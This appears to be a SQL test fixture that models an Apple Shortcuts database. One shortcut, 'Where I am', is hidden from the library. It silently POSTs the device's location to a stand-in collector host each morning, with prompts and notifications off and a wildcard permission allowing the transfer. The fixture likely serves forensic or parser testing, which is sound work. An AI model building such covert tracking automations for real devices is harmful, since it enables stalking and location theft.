CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZACTIONCOUNT INTEGER, ZHIDDENFROMLIBRARYANDSYNC INTEGER, ZRUNEVENTSCOUNT INTEGER, ZCREATIONDATE TIMESTAMP, ZLASTRUNEVENTDATE TIMESTAMP, ZMODIFICATIONDATE TIMESTAMP, ZACTIONSDESCRIPTION VARCHAR, ZASSOCIATEDAPPBUNDLEIDENTIFIER VARCHAR, ZGALLERYIDENTIFIER VARCHAR, ZNAME VARCHAR, ZSOURCE VARCHAR, ZWORKFLOWID VARCHAR);
CREATE TABLE ZSHORTCUTACTIONS (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZSHORTCUT INTEGER, ZDATA BLOB);
CREATE TABLE ZTRIGGER (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZENABLED INTEGER, ZSHOULDNOTIFY INTEGER, ZSHOULDPROMPT INTEGER, ZSHOULDRECUR INTEGER, ZSHORTCUT INTEGER, ZTRIGGERID VARCHAR, ZDATA BLOB);
CREATE TABLE ZTRIGGEREVENT (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZTRIGGER INTEGER, ZDATECREATED TIMESTAMP, ZEVENTINFO BLOB);
CREATE TABLE ZSHORTCUTRUNEVENT (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZOUTCOME INTEGER, ZSHORTCUT INTEGER, ZTRIGGER INTEGER, ZDATE TIMESTAMP, ZSOURCE VARCHAR);
CREATE TABLE ZSMARTPROMPTPERMISSION (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZSHORTCUT INTEGER, ZACTIONUUID VARCHAR, ZDATA BLOB);
INSERT INTO ZSHORTCUT VALUES (5, 13, 1, 3, 1, 4, 740000000, 740000300, 740000100, '3 actions', 'com.example.host', 'gallery', 'Where I am', 'ShortcutSourceOnDevice', '7F');
INSERT INTO ZSHORTCUTACTIONS VALUES (5, 14, 1, 5, plist('{"WFWorkflowActions": [
  {"WFWorkflowActionIdentifier": "is.workflow.actions.getcurrentlocation", "WFWorkflowActionParameters": {"UUID": "1"}},
  {"WFWorkflowActionIdentifier": "is.workflow.actions.downloadurl", "WFWorkflowActionParameters": {"WFHTTPMethod": "POST", "WFURL": {"Value": {"string": "https://collect.example.org/in?x=￼", "attachmentsByRange": {"{31, 1}": {"OutputUUID": "1", "Type": "ActionOutput"}}}, "WFSerializationType": "WFTextTokenString"}}},
  {"WFWorkflowActionIdentifier": "com.example.app.SendIntent", "WFWorkflowActionParameters": {"AppIntentDescriptor": {"BundleIdentifier": "com.example.app"}, "Inner": {"$plist": {"to": ["eve@mail.example.org", "see bad.example/x"], "deep": {"$archive": {"$class": "WFContact", "url": "https://deep.example.org/1", "phoneNumber": "+31 6 1234"}}}}}}]}'));
-- Only the actions are left of this one.
INSERT INTO ZSHORTCUTACTIONS VALUES (6, 14, 1, 6, plist('[{"WFWorkflowActionIdentifier": "is.workflow.actions.openurl", "WFWorkflowActionParameters": {"WFInput": "http://gone.example.net/"}}]'));
INSERT INTO ZTRIGGER VALUES (1, 15, 1, 1, 0, 0, 1, 5, 'A0', archive('{"$class": "WFTimeOfDayTrigger", "mode": 0, "time": {"hour": 7}, "sender": "+31612345678"}'));
INSERT INTO ZTRIGGER VALUES (2, 15, 1, 0, 1, 1, 1, 99, NULL, x'00');
INSERT INTO ZTRIGGEREVENT VALUES (1, 16, 1, 1, 740000299, NULL);
INSERT INTO ZSHORTCUTRUNEVENT VALUES (1, 17, 1, 0, 5, 1, 740000300, 'com.apple.shortcuts.automation');
INSERT INTO ZSMARTPROMPTPERMISSION VALUES (1, 18, 1, 5, '2', plist('{"Mode": "ActionWildcard", "Status": "Allow", "ContentDestination": {"Host": "collect.example.org"}}'));
